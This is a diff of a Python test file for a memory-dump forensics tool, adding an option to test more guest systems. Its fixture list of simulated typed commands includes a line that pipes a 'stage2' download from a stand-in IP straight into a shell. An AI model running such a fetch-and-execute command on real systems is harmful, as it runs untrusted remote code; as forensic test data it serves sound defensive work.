@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import hashlib
+import os
 import re
 import socket
 import tarfile
@@ -13,13 +14,14 @@ from typing import Any, Final
 import pytest
 
 from dumpmaker import initramfs
-from dumpmaker.cache import RECIPES, Dump
+from dumpmaker.cache import FURTHER, RECIPES, Dump
 from support.volrunner import Vol
 
 pytestmark = pytest.mark.slow
 Dumps = Callable[[str], Dump]
 
-RICH: Final = [name for name, recipe in RECIPES.items() if recipe.rich]
+GUESTS: Final = RECIPES | (FURTHER if os.environ.get("BTF_ALL_GUESTS") else {})
+RICH: Final = [name for name, recipe in GUESTS.items() if recipe.rich]
 TYPED: Final = {
     "cd /tmp",
     "curl -s http://203.0.113.7/stage2 | sh",
